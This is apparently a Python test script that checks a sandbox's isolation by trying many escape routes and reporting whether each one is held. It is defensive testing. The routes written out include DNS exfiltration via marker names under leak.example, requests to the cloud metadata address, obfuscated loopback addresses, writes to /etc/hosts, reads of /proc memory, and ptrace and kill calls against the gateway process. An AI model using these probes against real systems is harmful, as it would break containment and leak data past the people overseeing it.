"""Tries every way out that a program in a session might think of, and says what came of each.

Arguments: a port that listens on the host's loopback, another session's port, the name of an
abstract socket of the host, the gateway's process id, a marker for everything that is sent, and
addresses of the host. Prints a line for each attempt, `held` or `BROKEN`, and `tried N` at the end.
"""

import ctypes
import errno
import os
import socket
import struct
import sys

HOST_PORT, OTHER_PORT, ABSTRACT, GATEWAY, MARKER = sys.argv[1:6]
HOST_PORT, OTHER_PORT, GATEWAY = int(HOST_PORT), int(OTHER_PORT), int(GATEWAY)
HOST_ADDRESSES = sys.argv[6:]
FAR4, FAR6 = "203.0.113.9", "2001:db8:5e55::9"
PATIENCE = 1
libc = ctypes.CDLL(None, use_errno=True)
CALLS = ["ptrace", "process_vm_readv", "pidfd_open", "unshare", "setns", "io_uring_setup", "bpf"]
NUMBERS = {"x86_64": [101, 310, 434, 272, 308, 425, 321], "aarch64": [117, 270, 434, 97, 268, 425, 280]}
CALL = dict(zip(CALLS, NUMBERS[os.uname().machine]))
tried = 0


def attempt(name, expected, do):
    """Does it. Expected is what must come of it: `fails`, or the beginning of what is heard."""
    global tried
    tried += 1
    try:
        outcome = do()
    except OSError as error:
        outcome = "fails " + errno.errorcode.get(error.errno, str(error))
    holds = any(str(outcome).startswith(one) for one in expected.split("|"))
    print("held" if holds else "BROKEN", f"{name}: {outcome} (expected: {expected})", flush=True)


def system(name, call, *arguments):
    """A system call that must fail."""

    def do():
        ctypes.set_errno(0)
        result = libc.syscall(ctypes.c_long(CALL[call]), *arguments)
        if result >= 0:
            return "succeeds"
        raise OSError(ctypes.get_errno(), name)

    attempt(name, "fails", do)


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def opened(family, kind, protocol=0):
    s = socket.socket(family, kind, protocol)
    s.settimeout(PATIENCE)
    return s


# What a captured connection is told when its host is refused.
NO = "HTTP/1.1 403"


def http(address, port, prepare=lambda s: None, protocol=0):
    def do():
        s = opened(family_of(address), socket.SOCK_STREAM, protocol)
        prepare(s)
        s.connect((address, port))
        s.settimeout(10)
        s.sendall(f"GET /{MARKER} HTTP/1.1\r\nHost: {address}\r\n\r\n".encode())
        return s.recv(100).decode(errors="replace").strip() or "an end"

    return do


def datagram(address, port, prepare=lambda s: None, protocol=0, bytes_=None):
    """Sends a datagram and waits for an answer or the word that it was refused."""

    def do():
        s = opened(family_of(address), socket.SOCK_DGRAM, protocol)
        prepare(s)
        s.connect((address, port))
        for _ in range(2):
            s.send(bytes_ or MARKER.encode())
        return "heard " + repr(s.recv(4096))

    return do


def option(level, number, value):
    return lambda s: s.setsockopt(level, number, value)


def made(*arguments):
    def do():
        socket.socket(*arguments)
        return "a socket"

    return do


# Sockets below or beside TCP and UDP.
for family, name in [(socket.AF_INET, "v4"), (socket.AF_INET6, "v6")]:
    for protocol in [1, 6, 17, 58, 255]:
        attempt(f"raw {name} {protocol}", "fails", made(family, socket.SOCK_RAW, protocol))
    for protocol in [132, 33, 136]:
        far = FAR4 if family == socket.AF_INET else FAR6
        attempt(f"other {name} {protocol}", "fails", datagram(far, 443, protocol=protocol))
    attempt(f"sctp {name}", "fails", made(family, socket.SOCK_STREAM, 132))
attempt("ping v4", "fails", datagram(FAR4, 0, protocol=1, bytes_=b"\x08\0\0\0\0\0\0\0" + MARKER.encode()))
attempt("ping v6", "fails", datagram(FAR6, 0, protocol=58, bytes_=b"\x80\0\0\0\0\0\0\0" + MARKER.encode()))
for family in set(range(3, 46)) - {socket.AF_INET6, socket.AF_NETLINK}:
    for kind in [socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW]:
        attempt(f"family {family} {kind}", "fails", made(family, kind, 0))
# 0 tells programs of their own addresses.
for protocol in range(1, 23):
    attempt(f"netlink {protocol}", "fails", made(socket.AF_NETLINK, socket.SOCK_RAW, protocol))

# UDP, to anything but a name server.
for address in [FAR4, FAR6]:
    for port in [1, 123, 443, 853, 1012, 1013, 5353, 51820]:
        attempt(f"udp {address} {port}", "fails", datagram(address, port))
attempt("udp, large", "fails", datagram(FAR4, 443, bytes_=MARKER.encode() * 3000))

# Everybody near.
broadcast = option(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for address, port in [("224.0.0.251", 5353), ("239.255.255.250", 1900), ("224.0.0.1", 53), ("ff02::fb", 5353)]:
    attempt(f"multicast {address}", "fails", datagram(address, port))
for address, port in [("255.255.255.255", 67), ("255.255.255.255", 53), ("198.19.255.255", 9)]:
    attempt(f"broadcast {address} {port}", "fails", datagram(address, port, broadcast))


# Names.
def question(kind, name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)


def understood(answer):
    identity, flags, _, answers = struct.unpack(">4H", answer[:8])
    code = flags & 15
    if not answers:
        return f"code {code} without an answer"
    if answer[-6:-4] == b"\0\4":
        return "address " + socket.inet_ntop(socket.AF_INET, answer[-4:])
    if answer[-18:-16] == b"\0\x10":
        return "address " + socket.inet_ntop(socket.AF_INET6, answer[-16:])
    return f"an answer of code {code}: {answer!r}"


def dns_udp(server, kind, name):
    def do():
        s = opened(family_of(server), socket.SOCK_DGRAM)
        s.settimeout(10)
        s.connect((server, 53))
        s.send(question(kind, name))
        return understood(s.recv(4096))

    return do


def dns_tcp(server, kind, name):
    def do():
        s = opened(family_of(server), socket.SOCK_STREAM)
        s.connect((server, 53))
        s.settimeout(10)
        asked = question(kind, name)
        s.sendall(struct.pack(">H", len(asked)) + asked)
        length = struct.unpack(">H", s.recv(2, socket.MSG_WAITALL))[0]
        return understood(s.recv(length, socket.MSG_WAITALL))

    return do


NAME = f"{MARKER}.leak.example"
for server in ["198.18.0.2", FAR4, "8.8.8.8", FAR6, *HOST_ADDRESSES]:
    for way, ask in [("udp", dns_udp), ("tcp", dns_tcp)]:
        attempt(f"dns {way} {server} A", "address 198.18.|address 198.19.", ask(server, 1, NAME))
        attempt(f"dns {way} {server} AAAA", "address fdfe:dcba:5e55:1:", ask(server, 28, NAME))
        # What carries text (TXT, NULL, CNAME, MX, SRV, NAPTR, ANY, AXFR), or keys and addresses.
        for kind in [16, 10, 5, 15, 33, 35, 255, 252]:
            attempt(f"dns {way} {server} {kind}", "code 5 without", ask(server, kind, NAME))
        attempt(f"dns {way} {server} HTTPS", "code 0 without", ask(server, 65, NAME))
# What is no question is told so, by the gateway: a header without anything behind it.
attempt("no question", "heard b'lk", datagram(FAR4, 53, bytes_=b"lk\1\0\0\1"))

# The host's loopback, and what listens in the namespace itself.
for address in ["127.0.0.1", "0.0.0.0", "127.8.8.8", "::1", "::", "::ffff:127.0.0.1", "198.18.0.1"]:
    for port in [HOST_PORT, OTHER_PORT, 1012, 1013]:
        attempt(f"loopback {address} {port}", "fails", http(address, port))
    for port in [HOST_PORT, 1012, 1013]:
        attempt(f"loopback udp {address} {port}", "fails", datagram(address, port))

# Addresses that only a rule opens, in every spelling.
for address in ["169.254.169.254", "169.254.1.1", "10.0.0.1", "172.16.0.1", "192.168.1.1", "100.64.0.1", FAR4,
                "fd00:ec2::254", "fd00::1", FAR6, "64:ff9b::7f00:1", "::ffff:169.254.169.254", *HOST_ADDRESSES]:
    for port in [80, HOST_PORT, 1012]:
        attempt(f"http {address} {port}", NO, http(address, port))
attempt("http fe80::1", "fails|" + NO, http("fe80::1%lo", 80))
for name in ["host.sessile", "localhost.leak.example", NAME]:
    attempt(f"http {name}", NO, http(name, HOST_PORT))
for name in ["0x7f000001", "2130706433", "0177.0.0.1", "127.1"]:
    attempt(f"http {name}", "fails", http(name, HOST_PORT))

# Options of sockets.
LSRR = bytes([0x83, 7, 4]) + socket.inet_aton("203.0.113.5") + b"\0"
for name, prepare in [
    ("bound to lo", option(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo")),
    ("bound to eth0", option(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")),
    ("marked", option(socket.SOL_SOCKET, socket.SO_MARK, 1)),
    ("transparent", option(socket.SOL_IP, 19, 1)),
    ("not routed", option(socket.SOL_SOCKET, socket.SO_DONTROUTE, 1)),
    ("source routed", option(socket.SOL_IP, socket.IP_OPTIONS, LSRR)),
    ("of high priority", option(socket.SOL_SOCKET, socket.SO_PRIORITY, 6)),
    ("from the host's address", lambda s: (s.setsockopt(socket.SOL_IP, 15, 1), s.bind(("203.0.113.5", 0)))),
    ("from the listener's address", lambda s: s.bind(("127.0.0.1", 0))),
    ("from port 53", lambda s: s.bind(("", 53))),
]:
    attempt(f"tcp {name}", "fails|" + NO, http(FAR4, 443, prepare))
    attempt(f"udp {name}", "fails", datagram(FAR4, 443, prepare))
attempt("mptcp", "fails|" + NO, http(FAR4, 443, protocol=262))
for port in [1012, 1013, 53]:
    attempt(f"taking port {port}", "fails", lambda: (
        s := opened(socket.AF_INET, socket.SOCK_STREAM),
        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1),
        s.bind(("127.0.0.1", port)),
    ))


def fast_open():
    s = opened(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(10)
    s.sendto(f"GET /{MARKER} HTTP/1.1\r\nHost: {FAR4}\r\n\r\n".encode(), socket.MSG_FASTOPEN, (FAR4, 443))
    return s.recv(100).decode(errors="replace")


attempt("tcp with data at once", "fails|" + NO, fast_open)


# Other ways to the host.
def abstract():
    s = opened(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0" + ABSTRACT)
    return "connected"


attempt("abstract socket", "fails", abstract)
for path in ["/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/proc/sys/net/ipv4/ping_group_range",
             "/proc/sys/net/ipv4/ip_forward", "/proc/sys/net/ipv4/ip_unprivileged_port_start"]:
    attempt(f"writing {path}", "fails", lambda: open(path, "a").write("0 2147483647\n") and "written")
for path in ["/proc/1/ns/net", f"/proc/{GATEWAY}/mem", "/proc/1/mem", "/dev/net/tun", "/dev/vhost-net", "/dev/vsock"]:
    attempt(f"opening {path}", "fails", lambda: open(path, "r+b") and "opened")
attempt("killing the gateway", "fails", lambda: os.kill(GATEWAY, 9) or "killed")
system("ptrace of the gateway", "ptrace", 16, GATEWAY, 0, 0)
system("reading the gateway", "process_vm_readv", GATEWAY, 0, 0, 0, 0, 0)
system("pidfd of the gateway", "pidfd_open", GATEWAY, 0)
for flag, name in [(0x10000000, "user"), (0x40000000, "network"), (0x20000, "mount"), (0x50000000, "user and network")]:
    system(f"new {name} namespace", "unshare", flag)
system("joining a namespace", "setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0)
system("io_uring", "io_uring_setup", 8, ctypes.create_string_buffer(120))
system("bpf", "bpf", 0, 0, 0)
print("tried", tried, flush=True)
